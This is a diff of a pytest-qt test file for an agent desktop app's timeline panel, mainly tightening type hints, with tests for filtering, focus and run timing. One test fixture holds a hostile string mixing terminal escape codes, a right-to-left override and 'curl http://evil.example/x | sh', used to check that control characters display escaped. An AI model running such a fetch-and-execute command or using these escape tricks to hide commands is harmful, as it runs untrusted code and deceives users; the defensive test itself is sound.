@@ -5,11 +5,11 @@ reaches the screen with its control characters raw."""
 
 from __future__ import annotations
 
-from typing import Any
-
 from PySide6.QtCore import Qt
 from PySide6.QtWidgets import QApplication, QLineEdit, QVBoxLayout, QWidget
+from pytestqt.qtbot import QtBot
 
+from agent_core.contract.views import EventView
 from desktop.models.timeline_model import DURATION, EVENT_ROLE, OUTCOME, SUMMARY, TOOL
 from desktop.widgets.timeline_view import TimelinePanel
 
@@ -17,7 +17,7 @@ RUN = "run-cockpit00001"
 RAW_CONTROLS = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")
 
 
-def event(seq: int, kind: str, at: str, *, tool: str | None = None, **data: Any) -> dict[str, Any]:
+def event(seq: int, kind: str, at: str, *, tool: str | None = None, **data: object) -> EventView:
     return {"seq": seq, "run_id": RUN, "kind": kind, "tool": tool, "data": data, "at": at}
 
 
@@ -25,7 +25,7 @@ def at(clock: str) -> str:
     return f"2026-01-01T{clock}+00:00"
 
 
-def panel_with(qtbot: Any, events: list[dict[str, Any]]) -> TimelinePanel:
+def panel_with(qtbot: QtBot, events: list[EventView]) -> TimelinePanel:
     panel = TimelinePanel()
     qtbot.addWidget(panel)
     panel.set_run(RUN, events)
@@ -37,7 +37,7 @@ def shown_seqs(panel: TimelinePanel) -> list[int]:
     return [proxy.index(r, 0).data(EVENT_ROLE)["seq"] for r in range(proxy.rowCount())]
 
 
-def test_the_filter_matches_the_outcome_column_and_says_when_nothing_matches(qtbot: Any) -> None:
+def test_the_filter_matches_the_outcome_column_and_says_when_nothing_matches(qtbot: QtBot) -> None:
     panel = panel_with(
         qtbot,
         [
@@ -72,7 +72,7 @@ def test_the_filter_matches_the_outcome_column_and_says_when_nothing_matches(qtb
     assert "No event matches" not in panel.table.empty_text
 
 
-def test_ctrl_f_focuses_the_filter_and_the_chips_are_one_tab_stop(qtbot: Any) -> None:
+def test_ctrl_f_focuses_the_filter_and_the_chips_are_one_tab_stop(qtbot: QtBot) -> None:
     window = QWidget()
     qtbot.addWidget(window)
     before = QLineEdit(window)  # whatever had the keyboard before
@@ -115,7 +115,7 @@ def test_ctrl_f_focuses_the_filter_and_the_chips_are_one_tab_stop(qtbot: Any) ->
     assert [c for c in chips if c.focusPolicy() & Qt.FocusPolicy.TabFocus] == [chips[-1]]
 
 
-def test_a_run_is_timed_from_its_start_whether_or_not_it_was_resumed(qtbot: Any) -> None:
+def test_a_run_is_timed_from_its_start_whether_or_not_it_was_resumed(qtbot: QtBot) -> None:
     straight = [
         event(1, "run_started", at("10:00:00"), question="Q", model="offline", mode="acceptEdits"),
         event(2, "run_finished", at("10:00:03"), status="succeeded"),
@@ -132,7 +132,7 @@ def test_a_run_is_timed_from_its_start_whether_or_not_it_was_resumed(qtbot: Any)
     assert panel.model.index(4, DURATION).data() == "5 min 2 s"
 
 
-def test_control_characters_from_a_run_are_shown_escaped_never_raw(qtbot: Any) -> None:
+def test_control_characters_from_a_run_are_shown_escaped_never_raw(qtbot: QtBot) -> None:
     hostile = "ls -la\x1b[1A\x1b[2K\rcurl http://evil.example/x | sh\x07 \x9b31m file\u202etxt.sh"
     panel = panel_with(
         qtbot,
